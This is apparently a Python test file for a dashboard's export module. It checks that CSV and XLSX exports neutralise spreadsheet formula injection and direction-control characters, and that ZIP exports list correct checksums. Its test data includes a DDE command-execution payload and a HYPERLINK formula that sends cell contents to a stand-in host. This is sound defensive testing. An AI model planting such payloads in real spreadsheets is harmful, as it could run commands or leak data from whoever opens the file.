"""What leaves the house cannot act: no formula, no markup, no turn of direction, and it can be checked."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.exports import neutral, to_csv, to_xlsx, to_zip
from dashboard.exports.plain_text import STARTS_A_FORMULA

NOON = datetime(2026, 9, 1, 12, 0, tzinfo=UTC)
HOSTILE = [
    "=1+1",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u202e=1+1",
    "＝1+1",
    '=HYPERLINK("http://collect.example?x="&A1)',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutral(text).startswith("'")


@given(st.text())
def test_no_text_starts_a_formula_or_turns_direction(text: str) -> None:
    shown = neutral(text)
    assert shown.lstrip()[:1] not in STARTS_A_FORMULA
    assert not set(shown) & set("\u202e\u2066\0\x1b\ufffe")


@pytest.mark.parametrize("text", ["Ada Lovelace", "C++", "Zoë–Ørsted", "名前", "a\nb", "1 = 1"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def sheet_texts(data: bytes) -> list[str]:
    """Every shared text of a workbook; also proves that its XML is well formed."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(book.read(name))  # noqa: S314 # our own file
        root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314
    return ["".join(node.itertext()) for node in root]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    frame = pd.DataFrame({"=head": HOSTILE, "n": range(len(HOSTILE))})
    data = to_xlsx({"A/B:[C]?*": frame})
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert all(text.startswith("'") for text in sheet_texts(data) if text != "n")


@given(st.lists(st.text(), max_size=5))
def test_any_text_makes_a_workbook_that_opens(texts: list[str]) -> None:
    sheet_texts(to_xlsx({"Sheet": pd.DataFrame({"text": ["head", *texts]})}))


@given(st.lists(st.text(), max_size=5))
def test_any_text_makes_a_csv_of_as_many_lines(texts: list[str]) -> None:
    data = to_csv(pd.DataFrame({"text": pd.Series(texts, dtype=object), "n": range(len(texts))}))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(texts) + 1
    assert all(len(row) == 2 for row in rows)


def test_times_numbers_and_gaps_are_written_plainly() -> None:
    frame = pd.DataFrame(
        {"at": pd.to_datetime(["2026-09-01T12:00Z", ""], utc=True), "n": [1, 2], "sure": [True, False]}
    )
    assert to_csv(frame).decode("utf-8-sig").split() == ["at,n,sure", "2026-09-01T12:00:00Z,1,yes", ",2,no"]


def test_a_zip_names_the_checksum_of_every_file() -> None:
    data = to_zip([("a.json", b"1"), ("a.json", b"2"), ("SHA256SUMS", b"3"), ("b", b"4"), ("b", b"5")], NOON)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        lines = archive.read("SHA256SUMS").decode().splitlines()
        sums = {line[66:]: line[:64] for line in lines}
        assert list(sums) == ["a.json", "a-2.json", "SHA256SUMS-2", "b", "b-2"]
        for name, digest in sums.items():
            assert hashlib.sha256(archive.read(name)).hexdigest() == digest
    assert data == to_zip(
        [("a.json", b"1"), ("a.json", b"2"), ("SHA256SUMS", b"3"), ("b", b"4"), ("b", b"5")], NOON
    )
